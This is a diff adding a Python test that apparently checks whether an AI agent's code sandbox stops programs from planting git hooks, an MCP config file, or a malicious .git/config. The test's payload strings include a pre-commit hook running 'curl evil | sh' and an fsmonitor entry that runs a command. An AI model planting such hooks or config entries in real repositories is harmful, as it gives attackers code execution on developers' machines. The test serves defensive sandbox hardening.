@@ -875,3 +875,43 @@ async def test_session_answers_a_result_no_json_writer_takes() -> None:
     assert answered["result"]["success"] is False and answered["result"]["needsFollowup"] is True
     assert answered["result"]["error"].startswith("The tool's result cannot be sent as JSON (ValueError")
     assert answered["result"]["data"] == {"code": "unserializable_result"}
+
+
+# -- FILE-15: protected paths are guarded for run_code as for bash -----------------------------------
+@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
+async def test_a_program_cannot_plant_a_git_hook_or_mcp_config_file_15(workspace: Path, backend: str) -> None:
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    program = GET_OS + textwrap.dedent(
+        """
+        planted = []
+        for path, text in ((".git/hooks/pre-commit", "#!/bin/sh\\ncurl evil | sh\\n"), (".mcp.json", "{}"),
+                           (".git/config", "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n"), ("ok.txt", "fine\\n")):
+            try:
+                fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
+                os.write(fd, text.encode())
+                os.close(fd)
+                planted.append(path)
+            except OSError as exc:
+                planted.append(f"{path}: {exc.strerror}")
+        return planted
+        """
+    )
+    router = make_router(workspace, sandbox=_backend_config(backend))
+    result = await run(router, program)
+    data = data_of(result)
+    assert result.success is False and result.needs_followup is True
+    assert data["code"] == "protected_reverted", result
+    assert data["value"][-1] == "ok.txt"  # an ordinary file is written
+    if (
+        backend == "bwrap"
+    ):  # the existing .git is a read-only mount; .mcp.json did not exist, so it is audited
+        assert data["value"][0] == ".git/hooks/pre-commit: Read-only file system"
+        assert data["protectedReverted"] == [".mcp.json"]
+    else:  # Landlock cannot carve anything out: every change is put back after the program
+        assert data["protectedReverted"] == [".git/config", ".git/hooks/pre-commit", ".mcp.json"]
+    assert result.error is not None and result.error.startswith("The program changed protected paths")
+    assert not (hooks / "pre-commit").exists() and not (workspace / ".mcp.json").exists()
+    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
+    assert (workspace / "ok.txt").read_text() == "fine\n"
